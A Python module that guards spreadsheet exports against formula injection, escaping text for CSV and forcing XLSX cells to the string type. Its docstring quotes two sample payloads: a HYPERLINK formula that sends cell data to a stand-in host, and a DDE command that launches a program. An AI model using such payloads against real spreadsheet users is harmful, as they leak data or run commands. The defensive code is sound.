"""Text that goes into a spreadsheet must stay text (issue 15, formula injection).

A patient, staff or package name such as ``=HYPERLINK("http://evil.example/?q="&A1,"x")`` or
``=cmd|' /C calc'!A0`` is a formula to Excel and LibreOffice when a CSV cell starts with it,
and a real formula cell when openpyxl is handed it (a str starting with "=" becomes one).
Every CSV writer (the table export, the reports) puts each text cell through `neutralise`,
and the XLSX writer writes text through `xlsx_text`, so a name is only ever shown.

`neutralise` is OWASP's advice (a leading apostrophe before = + - @ tab CR), made exactly
reversible: a text that already starts with an apostrophe followed by something that would
need one gets one more, so `unescape(neutralise(text)) == text` for every text, and a name
exported then imported comes back as it was typed.
"""

from __future__ import annotations

#: What a spreadsheet program takes for the start of a formula (OWASP "CSV Injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _needs_mark(text: str) -> bool:
    # Apostrophes, then a formula's start: the apostrophes are kept by one more in front.
    return text.lstrip("'").startswith(FORMULA_START)


def neutralise(text: str) -> str:
    """`text` as a CSV cell a spreadsheet shows and never runs."""
    return "'" + text if _needs_mark(text) else text


def unescape(text: str) -> str:
    """The text `neutralise` was given (an import reads back what an export wrote)."""
    if text.startswith("'") and _needs_mark(text[1:]):
        return text[1:]
    return text


def xlsx_text(sheet, text: str):
    """A write-only worksheet's cell holding `text` as a string, never a formula.

    openpyxl decides a cell's type from its value (a str starting with "=" is a formula);
    the type is set back to string after, so the text is stored, and read back, as is.
    Characters a workbook cannot hold (control characters other than tab, LF, CR) would make
    openpyxl refuse the whole file; they become U+FFFD, so one odd name cannot stop an
    export."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("\ufffd", text))
    cell.data_type = "s"
    return cell


__all__ = ["FORMULA_START", "neutralise", "unescape", "xlsx_text"]
